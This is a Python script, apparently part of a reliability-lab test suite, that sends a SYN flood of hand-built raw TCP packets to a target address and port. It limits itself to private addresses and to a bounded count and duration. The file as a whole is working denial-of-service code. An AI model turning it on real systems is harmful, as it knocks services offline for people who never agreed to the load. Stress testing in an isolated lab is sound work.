#!/usr/bin/python3
# A SYN flood for the reliability lab (issue 13): TCP SYNs from one source address with ever-new
# source ports to DST:DPORT, through a raw socket, bounded by --count and --duration-ms. Lab addresses
# only (the test runs it inside a namespace it made). Prints "sent N in M ms".
#   python3 synflood.py --src ADDR --dst ADDR --dport PORT [--count N] [--duration-ms D]
import argparse
import ipaddress
import random
import socket
import struct
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument('--src', required=True)
    ap.add_argument('--dst', required=True)
    ap.add_argument('--dport', type=int, required=True)
    ap.add_argument('--count', type=int, default=10000)
    ap.add_argument('--duration-ms', type=int, default=5000)
    a = ap.parse_args()
    src, dst = ipaddress.IPv4Address(a.src), ipaddress.IPv4Address(a.dst)
    if not (src.is_private and dst.is_private):
        raise SystemExit('synflood: lab (private) addresses only')
    if not (0 < a.count <= 1_000_000 and 0 < a.duration_ms <= 120_000):
        raise SystemExit('synflood: --count 1..1e6, --duration-ms 1..120000')
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    start = time.monotonic()
    deadline = start + a.duration_ms / 1000
    sent = 0
    while sent < a.count and time.monotonic() < deadline:
        sport = random.randint(1024, 65535)
        seq = random.getrandbits(32)
        tcp = struct.pack('!HHIIBBHHH', sport, a.dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
        pseudo = src.packed + dst.packed + struct.pack('!BBH', 0, socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack('!H', csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src.packed, dst.packed)
        ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
        try:
            s.sendto(ip + tcp, (a.dst, 0))
            sent += 1
        except OSError:
            time.sleep(0.001)  # the device queue is full: back off a little
    print('sent %d in %d ms' % (sent, (time.monotonic() - start) * 1000), flush=True)


main()
